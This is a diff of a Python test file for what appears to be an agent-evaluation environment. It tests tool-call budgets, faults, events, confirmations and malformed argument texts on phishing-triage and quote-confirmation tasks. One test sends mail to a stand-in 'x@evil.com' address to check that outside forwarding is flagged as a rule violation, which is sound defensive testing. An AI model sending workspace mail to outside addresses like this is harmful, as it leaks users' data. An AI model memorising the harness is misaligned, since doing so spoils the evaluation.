@@ -1,12 +1,11 @@
-"""A lean step keeps its step record and its call record as values, built when read (``Environment.steps``,
-``CallLog.calls``). Each test tries to make a record built late differ from the one the step would have built
-then: reads at every step against reads only at the end against the general path (turns as message dicts),
-across a confirmation that changes what later calls record, error steps, hostile argument texts, arguments
-changed by the caller after the step, events due after a lean step, and holders of the log or the step list.
-Also the flat-object pass of the argument nesting check (dict arguments, as the oracle gives them)."""
+"""A turn's tool calls at the edges of the call path: the tool-call budget, several calls in one turn, scheduled and
+random faults, a broken workflow rule, an event a call sets off, hostile argument texts, a confirmation, arguments
+the caller changes later; each test checks the records, messages and check tracking the turns leave. Turns given as
+AssistantTurns and as message dicts record the same."""
 
 from __future__ import annotations
 
+import dataclasses
 import json
 from pathlib import Path
 from typing import Any
@@ -18,10 +17,91 @@ from hypothesis import strategies as st
 from coworkenv.runtime import AssistantTurn, Environment, ToolCall
 from coworkenv.runtime.router import nesting_exceeds
 from coworkenv.spec import TaskSpec, load_spec
+from coworkenv.spec.models import TRANSIENT_ERROR
 
 EXAMPLES = Path(__file__).parent.parent / "examples"
-QUOTE = load_spec(EXAMPLES / "external_quote_confirmation.yaml")
 PHISHING = load_spec(EXAMPLES / "phishing_inbox_triage.yaml")
+QUOTE = load_spec(EXAMPLES / "external_quote_confirmation.yaml")
+MOVE = {"name": "mail_move", "arguments": json.dumps({"message_id": "msg-501", "folder": "spam"})}
+READ = {"name": "mail_read", "arguments": json.dumps({"message_id": "msg-501"})}
+
+
+def turn(*calls: dict[str, Any]) -> dict[str, Any]:
+    return {
+        "role": "assistant",
+        "content": "",
+        "tool_calls": [{"id": f"c{i}", "function": c} for i, c in enumerate(calls)],
+    }
+
+
+def variant(**changes: Any) -> TaskSpec:
+    return TaskSpec.model_validate({**PHISHING.model_dump(exclude_none=True), **changes})
+
+
+def test_the_call_that_meets_the_budget_runs_and_the_next_ends_the_episode() -> None:
+    env = Environment(PHISHING, max_tool_calls=2)
+    env.step(turn(READ))
+    second = env.step(turn(READ))
+    assert not second.done and env.steps[-1].tool_calls == 1
+    third = env.step(turn(READ))
+    assert (
+        third.done and third.info["done_reason"] == "max_tool_calls" and "limit reached" in third.messages[0]["content"]
+    )
+    record = env.steps[-1]
+    assert record.tool_calls == 0 and "tool_calls" not in record.model_fields_set  # no call ran
+    assert len(env.log.calls) == 2
+
+
+def test_a_two_call_turn_counts_both_and_keeps_the_order() -> None:
+    env = Environment(PHISHING)
+    obs = env.step(turn(READ, READ))
+    assert [m["tool_call_id"] for m in obs.messages] == ["c0", "c1"] and env.steps[-1].tool_calls == 2
+
+
+def test_a_scheduled_fault_hits_its_call_and_leaves_no_trace() -> None:
+    env = Environment(PHISHING)  # faults: mail_move fails on its first call
+    before = env.workspace.state_hash()
+    obs = env.step(turn(MOVE))
+    assert "error" in json.loads(obs.messages[0]["content"]) and env.log.calls[-1].fault
+    assert env.workspace.state_hash() == before and not env.workspace.changes
+    env.step(turn(MOVE))
+    assert env.workspace.records("mail", "messages")["msg-501"]["folder"] == "spam"
+
+
+def test_a_random_fault_is_drawn_without_scheduled_ones() -> None:
+    env = Environment(variant(faults=[]), fault_rate=1.0)
+    obs = env.step(turn(READ))
+    assert json.loads(obs.messages[0]["content"]) == {"error": TRANSIENT_ERROR}
+    clean = Environment(variant(faults=[]))
+    assert "error" not in json.loads(clean.step(turn(READ)).messages[0]["content"])
+
+
+def test_a_broken_rule_is_noted_on_the_step_and_the_episode() -> None:
+    env = Environment(PHISHING)
+    send = {"name": "mail_send", "arguments": json.dumps({"to": ["x@evil.com"], "subject": "s", "body": "b"})}
+    env.step(turn(send))
+    assert env.steps[-1].violations == ["no_external_forward"] and env.violations[0].tool == "mail_send"
+
+
+def test_an_event_fired_by_a_call_changes_what_checks_see() -> None:
+    """The event moves a message the check reads: its notice follows the tool message, the check records it."""
+    event = {
+        "id": "auto_spam",
+        "on_tool": "mail_read",
+        "notify": "Two messages were flagged.",
+        "mutations": [
+            {"service": "mail", "collection": "messages", "op": "update", "id": m, "record": {"folder": "spam"}}
+            for m in ("msg-502", "msg-503")
+        ],
+    }
+    env = Environment(variant(faults=[], events=[event]))
+    env.step(turn(MOVE))
+    assert "scams_in_spam" not in env.tracker.first_true
+    obs = env.step(turn(READ))
+    assert [m["role"] for m in obs.messages] == ["tool", "user"] and env.steps[-1].events == ["auto_spam"]
+    assert env.tracker.first_true["scams_in_spam"] == 2
+
+
 ASK = "Before I email Kenji at Acme the quote, can you confirm I should send it?"
 HOSTILE = [
     ("mail_read", '{"message_id": "msg-501"}'),
@@ -50,7 +130,7 @@ def _turn(i: int, name: str, arguments: str | dict[str, Any]) -> AssistantTurn:
 
 
 def _as_dict(turn: Any) -> Any:
-    """The same turn as a message dict, which never takes the lean path."""
+    """The same turn as a message dict."""
     if not isinstance(turn, AssistantTurn):
         return turn
     calls = [{"id": c.id, "function": {"name": c.name, "arguments": c.arguments}} for c in turn.tool_calls]
@@ -63,39 +143,35 @@ def _records(env: Environment) -> tuple[Any, ...]:
     return calls, steps, env.messages, env.grade().model_dump(), env.workspace.state_hash()
 
 
-def _play(spec: TaskSpec, turns: list[Any], *, read_every_step: bool) -> tuple[Any, ...]:
+def _play(spec: TaskSpec, turns: list[Any]) -> tuple[Any, ...]:
     env = Environment(spec)
-    seen = []
-    for turn in turns:
-        seen.append(env.step(turn).__dict__)
-        if read_every_step:  # built now, at their own step, not later
-            seen.append((env.steps[-1].model_dump(), [c.model_dump() for c in env.log.calls]))
-    return _records(env), seen[::2] if read_every_step else seen
+    seen = [dataclasses.asdict(env.step(turn)) for turn in turns]
+    return _records(env), seen
 
 
-def _all_ways(spec: TaskSpec, turns: list[Any]) -> tuple[Any, ...]:
-    late = _play(spec, turns, read_every_step=False)
-    assert late == _play(spec, turns, read_every_step=True)
-    assert late == _play(spec, [_as_dict(t) for t in turns], read_every_step=False)
-    return late
+def _both_ways(spec: TaskSpec, turns: list[Any]) -> tuple[Any, ...]:
+    """The records of the turns as given, which the same turns as message dicts must leave too."""
+    played = _play(spec, turns)
+    assert played == _play(spec, [_as_dict(t) for t in turns])
+    return played
 
 
 def test_a_call_read_after_a_confirmation_keeps_the_confirmation_of_its_own_step() -> None:
     spec = _spec(QUOTE)
     turns = [_turn(0, "mail_search", '{"query": "quote"}'), ASK, _turn(2, "mail_search", '{"query": "Acme"}')]
-    (calls, steps, *_), _ = _all_ways(spec, turns)
+    (calls, steps, *_), _ = _both_ways(spec, turns)
     assert [c["confirmed"] for c in calls] == [False, True]
     assert [s["tool_calls"] for s, _ in steps] == [1, 0, 1] and steps[1][0]["user"]["approved"]
 
 
-@pytest.mark.parametrize("lean_first", [True, False])
-def test_error_steps_and_hostile_argument_texts_record_what_the_general_path_records(lean_first: bool) -> None:
+@pytest.mark.parametrize("two_first", [False, True])
+def test_error_steps_and_hostile_argument_texts_are_recorded(two_first: bool) -> None:
     turns: list[Any] = [_turn(i, name, args) for i, (name, args) in enumerate(HOSTILE)]
-    if not lean_first:  # a general-path step (two calls) first: its records come before the lean ones
+    if two_first:  # a step of two calls first: its records come before the others
         two = AssistantTurn(tool_calls=[ToolCall(id="d0", name="mail_read", arguments="{}")] * 2)
         turns.insert(0, two)
-    (calls, steps, *_), _ = _all_ways(_spec(PHISHING), turns)
-    assert len(calls) == len(HOSTILE) + (0 if lean_first else 2) and len(steps) == len(turns)
+    (calls, steps, *_), _ = _both_ways(_spec(PHISHING), turns)
+    assert len(calls) == len(HOSTILE) + (2 if two_first else 0) and len(steps) == len(turns)
     lean = calls[-len(HOSTILE) :]
     assert [c["ok"] for c in lean] == [True, *[False] * (len(HOSTILE) - 2), True]  # the plain read and the search
     assert [c["args"] is None for c in lean[:4]] == [False, True, True, True]  # undecodable: no arguments
@@ -116,30 +192,16 @@ def test_arguments_changed_by_the_caller_after_later_steps_stay_as_given() -> No
     assert env.log.calls[0].args == {"message_id": "msg-501"} and env.log.calls[0].ok
 
 
-def test_an_event_due_after_a_lean_step_is_noted_in_its_record() -> None:
+def test_an_event_due_after_a_step_is_noted_in_its_record() -> None:
     update = {"service": "mail", "collection": "messages", "op": "update", "id": "msg-502", "record": {"unread": False}}
     spec = _spec(PHISHING, events=[{"id": "late", "after_step": 2, "notify": "Mail arrived.", "mutations": [update]}])
     turns = [_turn(i, "mail_read", '{"message_id": "msg-501"}') for i in range(3)]
-    (_, steps, messages, *_), _ = _all_ways(spec, turns)
+    (_, steps, messages, *_), _ = _both_ways(spec, turns)
     assert [s["events"] for s, _ in steps] == [[], ["late"], []]
     assert any("Mail arrived." in str(m.get("content")) for m in messages)
 
 
-def test_holders_of_the_log_see_every_call_and_held_step_lists_hold_only_records() -> None:
-    env = Environment(_spec(PHISHING))
-    log = env.log
-    held = env.steps
-    for i in range(3):
-        env.step(_turn(i, "mail_read", json.dumps({"message_id": f"msg-50{i + 1}"})))
-    assert [c.call_id for c in log.calls] == ["c0", "c1", "c2"] and held == []
-    steps = env.steps
-    assert [s.index for s in steps] == [1, 2, 3] and all(a is b for a, b in zip(steps, env.steps, strict=True))
-    env.step(_turn(3, "mail_read", '{"message_id": "msg-501"}'))
-    assert len(steps) == 3 and len(env.steps) == 4  # a list read earlier is not extended with placeholders
-    assert env.trajectory().steps == env.steps and len(env.trajectory().calls) == 4
-
-
-def test_a_reset_drops_the_calls_not_yet_read() -> None:
+def test_a_reset_drops_the_calls_and_steps() -> None:
     env = Environment(_spec(PHISHING))
     env.step(_turn(0, "mail_read", '{"message_id": "msg-501"}'))
     env.reset()
@@ -148,14 +210,12 @@ def test_a_reset_drops_the_calls_not_yet_read() -> None:
     assert [c.call_id for c in env.log.calls] == ["c1"] and [s.index for s in env.steps] == [1]
 
 
-def test_in_a_spec_with_faults_only_the_faulted_tool_leaves_the_lean_path_and_its_fault_still_hits() -> None:
-    """PHISHING fails mail_move's first call: reads run lean around it, and the move's count is its own."""
-    env = Environment(PHISHING)
+def test_a_scheduled_fault_counts_the_calls_of_its_own_tool() -> None:
+    """PHISHING fails mail_move's first call: reads around it do not move the count."""
     read = _turn(0, "mail_read", '{"message_id": "msg-501"}')
     move = _turn(1, "mail_move", '{"message_id": "msg-501", "folder": "spam"}')
-    assert env._lean_step(read) is not None and env._lean_step(move) is None
     turns = [read, read, move, read, move, read]
-    (calls, *_), _ = _all_ways(PHISHING, turns)  # PHISHING as it is: its fault kept
+    (calls, *_), _ = _both_ways(PHISHING, turns)  # PHISHING as it is: its fault kept
     assert [(c["tool"], c["ok"], c["fault"]) for c in calls if c["tool"] == "mail_move"] == [
         ("mail_move", False, True),
         ("mail_move", True, False),
@@ -163,7 +223,7 @@ def test_in_a_spec_with_faults_only_the_faulted_tool_leaves_the_lean_path_and_it
 
 
 def _depth(value: Any) -> int:
-    """How deep lists and dicts nest in ``value`` (the reference nesting_exceeds is checked against)."""
+    """How deep lists and dicts nest in ``value``, by recursion (what nesting_exceeds is checked against)."""
     if isinstance(value, dict):
         return 1 + max(map(_depth, value.values()), default=0)
     if isinstance(value, list):
@@ -180,5 +240,5 @@ NESTED = st.recursive(
 
 @settings(max_examples=300, deadline=None)
 @given(value=st.one_of(NESTED, st.dictionaries(st.text(max_size=2), NESTED, max_size=4)), limit=st.integers(0, 5))
-def test_the_flat_object_pass_of_the_nesting_check_agrees_with_the_depth(value: Any, limit: int) -> None:
+def test_the_nesting_check_agrees_with_the_depth(value: Any, limit: int) -> None:
     assert nesting_exceeds(value, limit) == (_depth(value) > limit)
